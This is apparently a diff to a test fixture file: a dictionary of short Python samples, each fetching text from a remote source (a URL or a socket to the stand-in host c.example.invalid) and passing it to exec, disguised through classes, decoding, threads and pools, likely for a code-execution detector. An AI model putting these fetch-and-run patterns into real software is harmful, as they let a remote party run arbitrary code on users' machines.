@@ -23,6 +23,7 @@ class Feed:
             exec(row["draw"])
 """,
     "kept, and run within": "class Feed:\n    def pull(self):\n        self.text = requests.get(URL).text\n\n    def draw(self):\n        def inner():\n            exec(self.text)\n        return inner\n",
+    "the lines of a connection": "import socket\n\nclass Bus:\n    def ask(self):\n        with socket.create_connection(('c.example.invalid', 6380)) as line:\n            return [self.read(line.makefile('rb'))]\n\n    def read(self, file):\n        return file.readline().strip()\n\n    def go(self):\n        (item,) = self.ask()\n        exec(item.decode())\n",
     "decoded": "def undo(t):\n    return bytes.fromhex(t[3:]).decode()\n\ndef go():\n    exec(undo(requests.get(URL).text))\n",
     "a thread": "import threading\ndef run(text):\n    exec(text)\n\ndef go():\n    threading.Thread(target=run, args=(requests.get(URL).text,)).start()\n",
     "a pool": "def run(text):\n    exec(text)\n\ndef go(pool):\n    pool.submit(run, requests.get(URL).text)\n",
